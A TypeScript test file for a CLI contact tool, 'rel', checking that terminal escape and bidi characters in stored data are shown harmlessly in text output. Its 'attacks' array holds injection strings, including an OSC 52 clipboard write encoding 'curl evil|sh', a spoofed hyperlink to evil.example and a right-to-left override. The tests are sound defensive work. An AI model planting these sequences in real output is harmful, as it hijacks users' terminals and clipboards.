/**
 * No text output carries a control character from the data: names, nicknames, notes, tags, what was
 * given, event names, touch notes, organisations, error messages echoing input, the Markdown export.
 * rel's own colors still work, and --json stays exact.
 */
import fc from 'fast-check';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cleanName } from '../../src/domain/names.js';
import { hasUnsafe, visible, visibleDeep } from '../../src/domain/visible.js';
import { tempDir } from '../helpers/db.js';
import { runCli } from '../helpers/inprocess.js';
import Database from 'better-sqlite3';

const ESC = '\u001b';
const attacks = [
  `${ESC}]0;pwned${ESC}\\`, // window title
  `${ESC}[2J${ESC}[H`, // clear screen
  `${ESC}]52;c;Y3VybCBldmlsfHNo${ESC}\\`, // clipboard write (OSC 52)
  `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`, // spoofed hyperlink
  '\u009b31m', // C1 CSI
  '\u202etxt.exe', // bidi override
  '\u0007\u0008\r\u007f',
];

/** Any control character (C0 but newline, DEL, C1) or bidi control in printed text. */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe('visible', () => {
  it('shows every control and bidi character, and leaves other text alone', () => {
    expect(visible(`a${ESC}[2Jb\u202ec\u0085\n`)).toBe('a␛[2Jb<U+202E>c<U+0085>␊');
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        const v = visible(s);
        return !hasUnsafe(v) && (hasUnsafe(s) || v === s);
      }),
    );
  });

  it('maps strings deep inside results, not keys or numbers', () => {
    const r = visibleDeep({ people: [{ id: 1, name: `x${ESC}` }], m: new Map([[1, ['\u0007']]]) });
    expect(r).toEqual({ people: [{ id: 1, name: 'x␛' }], m: new Map([[1, ['␇']]]) });
  });

  it('names never keep control characters', () => {
    expect(cleanName(`Ai${ESC}[2Jko\u0000`)).toBe('Ai[2Jko');
  });
});

async function hostileDb(): Promise<{ env: Record<string, string>; db: string }> {
  const dir = tempDir();
  const db = join(dir, 'rel.db');
  const env = { REL_DB: db, REL_NOW: '2026-11-22', REL_CONFIG: join(dir, 'config.json'), HOME: dir };
  const bad = attacks.join(' ');
  const ok = async (args: string[]) => expect((await runCli(args, env)).code, args.join(' ')).toBe(0);
  await ok(['add', 'Aiko Tanaka', '--note', `note ${bad}`, '--tag', `tag${ESC}[31m`, '--nick', `nick\u202e`]);
  await ok(['edit', 'Aiko Tanaka', '--every', '1w', '--birthday', '1990-11-25']);
  await ok(['add', 'Ken Sato', '--origin', 'work', '--every', '2w']);
  await ok(['give', 'Aiko Tanaka', `slides ${bad}`, '--kind', 'feedback', '--date', '2026-10-01']);
  await ok(['take', 'Aiko Tanaka', `advice ${bad}`, '--kind', 'advice', '--date', '2026-10-02']);
  await ok(['touch', 'Ken Sato', `call ${bad}`, '--date', '2026-09-01']);
  await ok(['event', `meetup ${bad}`, '--kind', 'mixer', '--date', '2026-11-01', '--met', 'Ken Sato']);
  // A name as an older rel or a hand-edited backup could have stored it.
  const raw = new Database(db);
  raw.prepare("UPDATE people SET name = ?, org = ? WHERE name = 'Ken Sato'").run(`Ken${bad}`, `org ${bad}`);
  raw.close();
  return { env, db };
}

describe('text output never carries a control character from the data', () => {
  it('list, show, review, remind, today, rules, export md, and errors', async () => {
    const { env } = await hostileDb();
    const commands = [
      ['list'],
      ['list', '--tag', `tag${ESC}[31m`],
      ['show', 'Aiko Tanaka'],
      ['show', 'Ken'],
      ['review'],
      ['remind', '--days', '30'],
      ['today'],
      ['export', '--format', 'md'],
      ['graph'],
      ['graph', '--format', 'mermaid'],
      ['show', `nobody${ESC}]0;x${ESC}\\`],
      ['give', `ghost${ESC}[2J`, 'x'],
      ['list', `--bogus${ESC}[2J`],
      ['give', 'Aiko Tanaka', 'x', '--kind', `nope${ESC}[2J`],
    ];
    for (const args of commands) {
      const r = await runCli(args, env);
      expect(r.out + r.err, args.join(' ')).not.toMatch(CONTROL);
    }
    const shown = await runCli(['show', 'Aiko Tanaka'], env);
    expect(shown.out).toContain('␛]0;pwned␛\\');
    expect((await runCli(['export', '--format', 'md'], env)).out).toContain('<U+202E>txt.exe');
  });

  it('--json and data exports stay exact', async () => {
    const { env } = await hostileDb();
    const j = JSON.parse((await runCli(['show', 'Aiko Tanaka', '--json'], env)).out) as {
      person: { note: string };
    };
    expect(j.person.note).toBe(`note ${attacks.join(' ')}`);
    const graph = (await runCli(['graph', '--format', 'json'], env)).out;
    expect(JSON.parse(graph)).toBeTypeOf('object');
    expect(graph).not.toMatch(/[␊␛]/);
    const csv = (await runCli(['export', '--format', 'csv'], env)).out;
    expect(csv).toContain(`note ${attacks.join(' ')}`);
  });

  it("rel's own colors still work on a terminal", async () => {
    const { env } = await hostileDb();
    const r = await runCli(['show', 'Aiko Tanaka'], { ...env, NO_COLOR: '' }, { stdout: true });
    expect(r.out).toContain(`${ESC}[1m`);
    expect(r.out).toContain('␛]0;pwned');
    expect(r.out).not.toContain(`${ESC}]`);
  });
});
